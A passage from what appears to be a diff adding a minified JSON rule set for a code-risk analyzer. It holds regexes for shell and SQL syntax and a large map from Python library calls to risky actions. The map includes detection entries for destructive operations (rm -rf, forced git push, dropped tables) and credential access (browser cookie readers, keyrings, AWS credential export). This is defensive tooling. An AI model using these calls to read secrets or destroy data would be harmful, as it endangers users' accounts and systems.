+\\x60\\\\\\\\])*\\\\x60?|\\\\$\\\\{(?:[^{}]|\\\\{(?:[^{}]|\\\\{[^{}]*\\\\})*\\\\})*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x60$\\\\x7b\\\\x7d,]+|[\\\\s\\\\S]","y"\
+],"printf_escape":["\\\\\\\\(?:x([\\\\da-fA-F]{1,2})|u([\\\\da-fA-F]{1,4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_directive":["%%|%[-+ #0]*(\\\\d*|\\\
+\\*)(?:\\\\.(\\\\d+|\\\\*))?([a-zA-Z])|\\\\\\\\(?:x\\\\p{AHex}{1,2}|u\\\\p{AHex}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%(?!x|\\\\d[\\\\da-f])[-+ #0'^:_<>|\
+\\\\d.]*(?:[Cw]?\\\\([^)]*\\\\)|\\\\{[^}]*\\\\}|[acCGg]?[A-Za-z])|%","g"],"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolation":["\\\\\\\\\\\\((?:[^()]|\\\\([^()\
+]*\\\\))*\\\\)","g"],"long_line_separator":["\\\\\\\\[\\\\s\\\\S]|'[^']*(?:'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?<!=)\\\\((?!\\\\))|(?<!\\\\()\\\\)|(?<\
+!>)&(?!>)","g"],"long_line_prefix":["^(?:(?:if|then|elif|else|do|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \\\\t]*(?:\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n\
+]*)(?:\\\\n(?:(?:[\\\\s\\\\S]*?\\\\n)?[ \\\\t]*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\\s\\\\S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\\[ (?:1|true|x) \\\\]|test 1|ech\
+o.*)$"],"always_false":["^(?:\\\\/bin\\\\/)?false$"],"deleting_call":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|system)\\\\b"],"generated_statement"\
+:["'\\\\s*((?:drop|truncate|delete|alter|revoke|grant)\\\\s[^']*)'","gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"],"host":["^(?:[a-z][a-z0-9+.-]\
+*:\\\\/\\\\/)?(?:[^/@\\\\s]*@)?(\\\\[[0-9a-f:]+\\\\]|[A-Za-z0-9.-]+)(?::\\\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[!^]\\\\.\\\\]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\
+\\\\*,\\\\.\\\\*\\\\}|\\\\*\\\\.\\\\*|!\\\\(.*\\\\))$"],"making_word":["^(?:create|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"referring_word":["^(?:remote|co\
+ntext|config.*)$"],"name_maker":["^(?:volume|network) create$"],"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obligation":["(?:needs? to|should\
+|must|has to|have to|(?:is|are) to) be(?: \\\\w+ly)?$"],"list_item":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\\[[ x]\\\\]|step \\\\d{1,3}[:.)-]?\
+)[ \\\\t]+(?:\\\\[[ x]\\\\][ \\\\t]+)?","i"],"heading":["^[ \\\\t]{0,3}#{1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)"],"prompt":["^[ \\\\t]*\\\\$[ \\\\t\
+]+(?=\\\\S)"],"text_word":["(\`{1,2})([^\`\\\\n]{1,2000}?)\\\\1|(?<![\\\\w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{1,200})'(?!\\\\w)|[^\\\\s\`\\"\\u201c\
+\\u201d,;:()!?\\u2014]+(?:[:!?][^\\\\s\`\\"\\u201c\\u201d,;()!?\\u2014]+)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]+","y"],"code_name":["[\\\\p{L}_\
+][\\\\p{L}\\\\p{N}_]*[?!]?","uy"],"code_number":["0[xX][\\\\da-fA-F_]+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE][+-]?\\\\d+)?","y"],"code_mark":\
+["\\\\.\\\\.\\\\.|[=!]==|<=>|(?:\\\\*\\\\*|<<|>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+*/.%|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuing_mark":["^(?:[.,+*/%&|=<>?:([\
+-]|=>|->|\\\\?\\\\.|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+=|\\\\.\\\\.\\\\.|==|===|::)$"],"continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\\.\\\\.)$"],"escape":["\\\\\\\\(?:x(\
+[\\\\da-fA-F]{2})|u([\\\\da-fA-F]{4})|u\\\\{([\\\\da-fA-F]{1,6})\\\\}|([0-7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"prefixed_quote":["(?<prefix>[rbfuR\
+BFUtT]{0,2})(?<close>'''|\\"\\"\\"|'|\\")","y"],"quoting_q":["(qq|qx|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_percent":["(%[wWiIqQxr]?)([({[<|\
+!/])","y"],"quoting_none":["(?!)","y"],"heredoc_perl":["<<~?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"heredoc_php":["<<<[ \\\\t]*(?:\\"(\\\\w+)\\"|'(\\\\w+)'|(\\\\w+))"\
+,"y"],"heredoc_ruby":["<<[~-]?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]\
+){0,300}\\\\]|[^/\\\\\\\\[\\\\n]){0,300}/[a-z]*","y"],"opening_f_string":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\\{","y"],"opening_dolla\
+r":["\\\\{(?=\\\\$)|@\\\\{(?=\\\\[)","y"],"opening_none":["(?!)","y"],"dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{0,40}\\\\]|\\\\{[^}\\\\n]{0,4\
+0}\\\\})?","y"],"table_deed":["^(?:drop-table|truncate|delete-all|update-all)$"],"temporary":["^TEMP(?:ORARY)?$"],"no_rows":["\\\\b(?:LIMIT 0|WHERE \\\\(* ?(?:FALSE|0\
+|1 = [02]|0 = 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?:1|true|'?(\\\\w+)'? *= *'?\\\\1'?|1 *< *2|not false)(?: *\\\\)*)$","i"],\
+"client_command":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\\w*[ \\\\t]*(?:\\\\|[ \\\\t]*(?<piped>.*)|(?:.{0,4000}?\\\\b(?:program|PROG\
+RAM)[ \\\\t]+'(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\\\\n]*|/\\\\*!\\\\d*|/\\\\*[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\*/|(?<quote>['\\"\\\\x60])(\
+?<quoted>(?:(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?|\\\\$(?<tag>\\\\w*)\\\\$(?<text>[\\\\s\\\\S]*?)(?:\\\\$\\\\k<tag>\\\\$|$)|(?<word>\
+[\\\\p{L}_@#$][\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(?:each)?[\\\\s(]{0,20}(?:await[\\\\s(]{1,9})?(?:(?:const|let|var|my)\\\\s\
+{1,9})?\\\\(?([\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\\\\s*(\\\\w[\\\\w, ]*)\\\\||\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\blambda\\\\s+(\\\\w+)","g"],\
+"test_clause":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,300})","g"],"tested_ending":["[\\"']\\\\.([\\\\w.]{1,12})[\\"']|\\\\\\\\\\\\.(?:\\\
+\\(\\\\??:?)?([\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\"']([\\\\w.-]+)[\\"']","g"],"known_command":["^(?![\\\\s\\\\S]*(?:^|[;&|\\\\\
+n(\`{!]\\\\s*|\\\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\w=\\\\S*\\\\s+)['\\"]?\\\\u{FFFC})\\\\s*[\\\\w./-]","u"],"deletes":["^\\\\s*(?:s\
+udo\\\\s+)?(?:rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"new_path":["^/tmp/(?:tmp\\\\.)?\\\\uFFFC(?=/|$)"],"peer_parameter":["^(?\
+:req|request|reader)$"],"class_name":["^[A-Z]\\\\w*$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\w+)(?:\\\\.bake)?$"],"text_method":["^(?:str|bytes)\\\\.([lr]?strip\
+|lower|upper|r?split|splitlines|encode|decode)$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"static_method":["^(?:self|this|[A-Z]\\\\w*)\\\\.(\\\\w+)$"],"true\
+_or_false":["^(?:True|False|true|false)$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?[\\\\w.-]+)$","su"],"uses_arguments":["arg|shift|\\\\$[1-9*\
+@]","i"],"uses_environment":["env","i"],"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|read\\\\(|argf|ARGV|\\\\$\\\\d|getline|print","i"]},"texts":{"X\
+ML or HTML":["^\\\\s*<(!doctype|\\\\?xml|[a-z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\||[-*] \\\\S)|\\\\n\`\`\`"],"a log":["^\\\\s*(\\\\[?\\\\d{4}-\\\\d\\\\d-\
+\\\\d\\\\d[T ]|Traceback \\\\(most recent|\\\\w*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\\u2019]*[, ]\\\\s*\\\\p{L}[^\\\\n]*[.!?:)](\\\\s|$)","u"]}},"la\
+nguages":{"languages":{"python":{"lexer":{"comment":["#"],"sigils":"","interpolation":"f_string","triple":true,"single_escapes":true,"quoting":"none","patterns"\
+:false,"lines":"indent"},"program":"python3","blocks":"indent","member_operators":["."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["de\
+f"],"inputs":{"sys.argv":"argv","os.environ":"environment","sys.stdin":"lines","flask.request.args":"peer","flask.request.form":"peer","flask.request.data":"pee\
+r","flask.request.json":"peer","flask.request.values":"peer","flask.request.headers":"peer","bottle.request.query":"peer","bottle.request.forms":"peer","bottle.\
+request.body":"peer","self.rfile":"peer"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobotocore.","aioboto3.","google.cloud.","googleapiclient.",\
+"firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","oci.","openstack.","libcloud.","stripe.","github.Github"\
+,"gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pinecone.","qdrant_client.","weaviate.","pymilvus.","algoli\
+asearch.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","twilio.","sendgrid.","supabase.","appwrite.","contentfu\
+l_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmoxer.","vercel.","netlify.","tencentcloud.","aliyunsdk",\
+"alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira.","atlassian.","notion_client.","asana.","replicate.",\
+"pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.","etcd3.","kazoo.","asyncssh.","pysftp.","smbclient.","dropbox.","cloudinary.","mailchimp_marketi\
+ng.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk.","msgraph.","exchangelib.","simple_salesforce.","hubspot."],"texts":{"stat.S_ISUID":"u+s","sta\
+t.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.curdir":".","os.pardir":"..","__file__":"./program.py","string.ascii_lowercase":"abcdefghijklmnopqr\
+stuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os.system","io.open":"open","codecs.open":"open","Path":"pathlib.Path","subprocess.os.system":"os.\
+system","urllib2.urlopen":"urllib.request.urlopen","urllib.urlopen":"urllib.request.urlopen","urllib.urlretrieve":"urllib.request.urlretrieve","pd.read_csv":"pa\
+ndas.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\.__dict__|\\\\.__call__$",""],["^Path(?=\\\\.)","pathlib.\
+Path"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\\.(?=os\\\\.|open$)",""],["^aioshutil\\\\.","shutil."],["\
+^(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathlib.Path"]],"functions":{"print":"print","sys.stdout.write":"print text","input":"input","raw_inpu\
+t":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:path","os.unlink":"run rm $0:path","pathlib.Path.unlink":"run rm $0:path","os.rmdir":"run rmdir \
+$0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs":"run rmdir -p $0:name","shutil.rmtree":"run rm -rf $0:path","send2trash.send2trash":"run rm -r\
+f $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0:src $1:dst","os.replace":"run mv $0:src $1:dst","os.renames":"run mv $0:src $1:dst","shutil.mov\
+e":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","shutil.copy2":"run cp $0:src $1:dst","shutil.copyfile":"run cp $0:src $1:dst","shutil.copytree":\
+"run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":"run ln -s $0 $1","os.truncate":"run truncate -s 0 $0","os.mkfifo":"run mkfifo $0","os.mknod":"r\
+un mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run chown $1:uid:user $0:path","os.lchown":"run chown $1:uid:user $0:path","shutil.chown":"run chown\
+ $1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.NamedTemporaryFile":"made written /tmp/temporary","os.system":"shell $0:command:cmd","os.popen":"sh\
+ell $0:command:cmd","commands.getoutput":"shell $0:command:cmd","asyncio.create_subprocess_shell":"shell $0:command:cmd","asyncio.create_subprocess_exec":"progr\
+am $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spawn":"shell $0:args:command:cmd $:input:stdin","pexpect.run":"shell $0:args:command:cmd $:input:s\
+tdin","subprocess.run":"shell $0:args:command:cmd $:input:stdin","subprocess.call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_call":"shell $0:a\
+rgs:command:cmd $:input:stdin","subprocess.check_output":"shell $0:args:command:cmd $:input:stdin","subprocess.Popen":"shell $0:args:command:cmd $:input:stdin",\
+"subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin","subprocess.getstatusoutput":"shell $0:args:command:cmd $:input:stdin","os.execl":"execute $0 $\
+1..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1..","os.execlpe":"execute $0 $1..","os.execv":"execute $0 $1..","os.execvp":"execute $0 $1..","os.e\
+xecve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posix_spawn":"execute $0 $1..","os.spawnl":"execute $1 $2..","os.spawnlp":"execute $1 $2..","os.spaw\
+nle":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawnv":"execute $1 $2..","os.spawnvp":"execute $1 $2..","os.spawnve":"execute $1 $2..","os.spawnvpe"\
+:"execute $1 $2..","sh.Command":"made program","os.dup2":"attach-shell /bin/sh | value","os.kill":"kill $0 $1","os.killpg":"kill $0 $1 group","psutil.Process":"\
+made psutil.Process","psutil.process_iter":"entries any-process","psutil.pids":"entries","os.listdir":"names $0","os.fork":"if-sign:repeats run fork","os.setuid\
+":"run setuid $last","os.seteuid":"run setuid $last","os.setresuid":"run setuid $last","os.setgid":"run setgid $last","os.chroot":"run chroot $0","ctypes.CDLL":\
+"made library","exec":"eval $0","eval":"eval $0","fileinput.input":"if-no-sign:writes if-option:inplace=True run truncate -s 0 $0:files | read $0","flask.reques\
+t.get_json":"received","flask.request.get_data":"received","urllib.parse.parse_qs":"received","urllib.parse.parse_qsl":"received","cgi.FieldStorage":"received",\
+"psutil.net_connections":"run lsof -i","os.write":"send $0 $1","execfile":"read $0","linecache.getlines":"read $0","numpy.loadtxt":"read $0","pandas.read_csv":"\
+read $0","pandas.read_json":"read $0","dotenv.dotenv_values":"read $0","envparse.env.read_envfile":"read $0","importlib.util.spec_from_file_location":"run pytho\
+n3 $1","runpy.run_path":"run python3 $0","pickle.load":"load $0","pickle.loads":"load $0","dill.load":"load $0","dill.loads":"load $0","joblib.load":"load $0","\
+torch.load":"load $0","marshal.loads":"load $0","zipfile.ZipFile":"made archive $0","tarfile.open":"open $0:file:name $1:mode","gzip.open":"open $0:file:name $1\
+:mode","bz2.open":"open $0:file:name $1:mode","lzma.open":"open $0:file:name $1:mode","shelve.open":"made store $0","dbm.open":"made store $0","lmdb.open":"made\
+ store $0","plyvel.DB":"made store $0","diskcache.Cache":"made store $0","h5py.File":"made store $0","zarr.open":"made store $0","zarr.open_group":"made store $\
+0","tinydb.TinyDB":"made store $0","twine.commands.upload.main":"run twine upload x","twine.commands.upload.upload":"run twine upload x","configparser.ConfigPar\
+ser":"made config","configparser.RawConfigParser":"made config","sqlalchemy.update":"made whole-update","sqlalchemy.sql.update":"made whole-update","crontab.Cro\
+nTab":"if-option:tab if-no-sign:installs-cron made mock | made crontab","secretstorage.get_default_collection":"run secret-tool lookup x","secretstorage.get_all\
+_collections":"run secret-tool lookup x","secretstorage.search_items":"run secret-tool lookup x","browser_cookie3.chrome":"run secret-tool lookup x","browser_co\
+okie3.firefox":"run secret-tool lookup x","browser_cookie3.edge":"run secret-tool lookup x","browser_cookie3.load":"run secret-tool lookup x","dulwich.porcelain\
+.push":"if-option:force=True run git push --force","dulwich.porcelain.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","git_filter_repo.RepoFilter":"run \
+git filter-repo --force","git.Head.delete":"if-option:force=True run git branch -D","os.fdopen":"value $0","psycopg.sql.SQL":"value $0","psycopg2.sql.SQL":"valu\
+e $0","sql.SQL":"value $0","asyncio.wait_for":"value $0","vars":"value $0","os.path.expanduser":"value $0","text":"value $0","sqlalchemy.text":"value $0","stati\
+cmethod":"value $0","classmethod":"value $0","asyncio.gather":"value $0..","__import__":"module $0","importlib.import_module":"module $0","getattr":"attribute $\
+0 $1","enumerate":"numbered $0","dotenv.set_key":"write $0 $1","dotenv.unset_key":"write $0 $1","next":"any-of $0","zip":"rows","itertools.zip_longest":"rows","\
+itertools.chain":"flat","itertools.chain.from_iterable":"flat $0","operator.attrgetter":"value","globals":"name builtins","functools.partial":"made bound $0 $1.\
+.","git.Repo":"made git $0","git.repo.Repo":"made git $0","git.Repo.init":"made git $0","git.Repo.clone_from":"made git $0","pygit2.Repository":"made git $0","p\
+ygit2.init_repository":"made git $0","unittest.mock.MagicMock":"mock","unittest.mock.AsyncMock":"mock","unittest.mock.Mock":"mock","unittest.mock.NonCallableMoc\
+k":"mock","unittest.mock.create_autospec":"mock","unittest.mock.mock_open":"mock","OSError":"made error","IOError":"made error","FileNotFoundError":"made error"\
+,"PermissionError":"made error","RuntimeError":"made error","ValueError":"made error","KeyError":"made error","TypeError":"made error","TimeoutError":"made erro\
+r","ConnectionError":"made error","Exception":"made error","subprocess.CalledProcessError":"made error","subprocess.TimeoutExpired":"made error","unittest.mock.\
+patch":"patcher $0:target $1:new","unittest.mock.patch.object":"patcher $0:target $1:attribute $2:new","setattr":"imitate $0 $1 $2","pytest.MonkeyPatch":"made m\
+onkeypatch","moto.mock_aws":"if-no-sign:keeps-real if-no-sign:other-imports patcher services","botocore.stub.Stubber":"if-no-sign:keeps-real if-no-sign:other-im\
+ports if-no-sign:several-clients patcher services","responses.activate":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","responses.RequestsMo\
+ck":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","requests_mock.Mocker":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests"\
+,"requests_mock.mock":"if-no-sign:keeps-real if-no-sign:other-requests patcher requests","respx.mock":"if-no-sign:keeps-real if-no-sign:besides-httpx patcher re\
+quests","pyfakefs.fake_filesystem_unittest.Patcher":"if-no-sign:keeps-real if-no-sign:other-files patcher files","fsspec.filesystem":"if-says:^memory$ made mock\
+","operator.methodcaller":"made message $0 $1..","string.Template":"made template $0","email.message.EmailMessage":"made mail","email.mime.text.MIMEText":"made \
+mail","email.mime.multipart.MIMEMultipart":"made mail","keyring.get_password":"secret","keyring.get_credential":"secret","netrc.netrc":"secret","dict":"from-pai\
+rs $0","huggingface_hub.scan_cache_dir":"made mock","httpx.MockTransport":"made mock","chromadb.EphemeralClient":"made mock","sqlalchemy.create_mock_engine":"ma\
+de mock","duckdb.connect":"if-none made database :memory: | made database $0:database","shlex.split":"split $0","json.loads":"parse-json $0","tempfile.mktemp":"\
+value /tmp/\\ufffc","tempfile.mkdtemp":"new-folder","tempfile.TemporaryDirectory":"new-folder","sqlalchemy.delete":"made whole","sqlalchemy.sql.delete":"made who\
+le","sqlalchemy.sql.expression.delete":"made whole","alembic.command.downgrade":"run alembic downgrade $1:revision","invoke.run":"shell $0","os.path.join":"join\
+ $all","pathlib.Path":"join $all","pathlib.PosixPath":"join $all","pathlib.Path.home":"value ~","pathlib.Path.cwd":"value .","os.getcwd":"value .","os.getenv":"\
+environment $0 $1:default","os.environ.get":"environment $0 $1:default","os.environ.copy":"environment $0 $1:default","os.path.dirname":"dirname $0","tempfile.m\
+kstemp":"temporary-pair","os.walk":"walk $0","os.scandir":"folder $0","glob.glob":"glob $0","glob.iglob":"glob $0","codecs.decode":"decode $0 $1","shutil.make_a\
+rchive":"run tar -cf $0 $2:root_dir","socket.create_connection":"connect $all","sqlite3.connect":"made database $0","socket.socket":"made socket","socket.gethos\
+tbyname":"run nslookup $0","dns.resolver.resolve":"run nslookup $0","dns.resolver.query":"run nslookup $0","smtplib.SMTP":"made connection","smtplib.SMTP_SSL":"\
+made connection","ftplib.FTP":"made connection","ftplib.FTP_TLS":"made connection","httpx.Client":"made rest $:base_url","httpx.AsyncClient":"made rest $:base_u\
+rl","paramiko.SFTPClient.from_transport":"made sftp","site.getusersitepackages":"value ~/.local/lib/python3/site-packages","paramiko.Transport":"made ssh","para\
+miko.SSHClient":"made ssh","fabric.Connection":"made ssh","fabric.SerialGroup":"made ssh","fabric.ThreadingGroup":"made ssh","invoke.Context":"made ssh","http.c\
+lient.HTTPSConnection":"made http","http.client.HTTPConnection":"made http","urllib.request.urlopen":"request GET $0:url $1:data","urllib.request.Request":"if-o\
+ption:method open-request $:method $0:url $1:data | made request $0:url $1:data","urllib.request.urlretrieve":"run curl -o $1 $0","requests.request":"request $0\
+ $1:url $:data $:json $:files $:content","requests.get":"request GET $0:url $:data $:json $:files $:content $:params","httpx.get":"request GET $0:url $:data $:j\
+son $:files $:content $:params","requests.post":"request POST $0:url $1 $:data $:json $:files $:content $:params","httpx.post":"request POST $0:url $1 $:data $:\
+json $:files $:content $:params","requests.put":"request PUT $0:url $1 $:data $:json $:files $:content $:params","httpx.put":"request PUT $0:url $1 $:data $:jso\
+n $:files $:content $:params","requests.patch":"request PATCH $0:url $1 $:data $:json $:files $:content $:params","httpx.patch":"request PATCH $0:url $1 $:data \
+$:json $:files $:content $:params","requests.delete":"request DELETE $0:url $1 $:data $:json $:files $:content $:params","httpx.delete":"request DELETE $0:url $\
+1 $:data $:json $:files $:content $:params","requests.head":"request HEAD $0:url $1 $:data $:json $:files $:content $:params","httpx.head":"request HEAD $0:url \
+$1 $:data $:json $:files $:content $:params","requests.Session":"name requests","requests.session":"name requests","aiohttp.ClientSession":"name requests","winr\
+eg.DeleteKey":"run reg delete $1","django.core.management.call_command":"run django-admin $0","call_command":"run django-admin $0","numpy.save":"write $1","torc\
+h.save":"write $1","joblib.dump":"write $1"},"methods":{"splitlines":"if-text split $self \\n","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --har\
+d | if-git if-option:working_tree=True run git reset --hard","to_sql":"if-kept if-sign:database-address if-option:if_exists=replace run sql drop-table $0","push\
+":"if-option:dry_run value | if-option:force=True if-git run git push --force origin | if-option:force=True if-owner:^(origin|remotes|remote)\\\\b|\\\\.remotes?\\\\b \
+run git push --force origin | if-option:refspec run git push origin $:refspec","remove_volume":"run docker volume rm $0","prune_volumes":"run docker volume prun\
+e -af","delete_head":"if-git if-option:force=True run git branch -D","remote":"if-git value $self","delete_tag":"if-git run git tag -d","checkout_head":"if-git \
+if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","checkout_index":"if-git if-arg:list run git checkout -- $0 | if-git if-sa\
+ys:FORCE|^True$ run git checkout -f","checkout":"if-git if-arg:list run git checkout -- $0 | if-git if-says:FORCE|^True$ run git checkout -f","put":"if-made:sft\
+p run scp -r $0 host:/x","new":"if-made:crontab run crontab -","write":"if-made:crontab run crontab - | if-made:archive read $0 | send $self $0","write_to_user"\
+:"if-made:crontab run crontab -","unlink":"if-made:library run rm $0 | if-gets:keys run sql flush FLUSHDB | if-made:sftp run cloud-sdk delete | run rm $self","r\
+emove":"if-made:library run rm $0 | if-made:sftp run cloud-sdk delete | if-made:docker-volume run docker volume rm $self","rmdir":"if-made:library run rm $0 | i\
+f-made:sftp run cloud-sdk delete | run rmdir $self","add":"if-made:written read $0 | if-list append $self $all","get_frozen_credentials":"run aws configure expo\
+rt-credentials","PowerOff":"run shutdown now","execute_command":"if-stored program redis-cli $all","filter":"if-name:objects made some-rows","exclude":"if-name:\
+objects made some-rows","delete":"if-made:some-rows run sql delete-some rows | if-gets:keys run sql flush FLUSHDB | if-made:connection run cloud-sdk delete | if\
+-made:rest request-over DELETE $0 | if-git if-owner:^(references|branches|local|heads|tags)$ run git update-ref -d refs/heads/x","update":"if-made:some-rows run\
+ sql delete-some rows | if-name:objects run sql update-all rows | if-made:rows run sql update-all rows | if-list append $self $all","rmd":"if-made:connection ru\
+n cloud-sdk delete","open_sftp":"if-made:ssh made sftp","rm":"if-option:recursive=True run cloud-sdk delete","run":"if-made:ssh shell $0 | if-name:containers do\
+cker-run | sql $0:query:sql","sudo":"if-made:ssh shell $0","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys",\
+"rmtree":"run rm -rf $self","read_text":"read $self","read_bytes":"read $self","write_text":"write $self $0:data","write_bytes":"write $self $0:data","chmod":"c\
+hmod $self $0:mode","walk":"if-text walk $self","read":"if-made:config read $0 | lines $self","set_content":"if-made:mail transfer sendmail $0 x","attach":"if-m\
+ade:mail transfer sendmail $0 x","add_attachment":"if-made:mail transfer sendmail $0 x","substitute":"if-made:template format $origin","safe_substitute":"if-mad\
+e:template format $origin","values":"if-made:whole-update value $self | if-map values $self","execution_options":"if-made:whole-update value $self","append":"if\
+-list append $self $all","appendleft":"if-list append $self $all","extend":"if-list append $self $all","insert":"if-list append $self $all","create":"if-name:co\
+ntainers docker-run","touch":"if-text run touch $self","rename":"if-text run mv $self $0","replace":"if-text if-args:2 replace $self $0 $1 | if-text if-args:1 r\
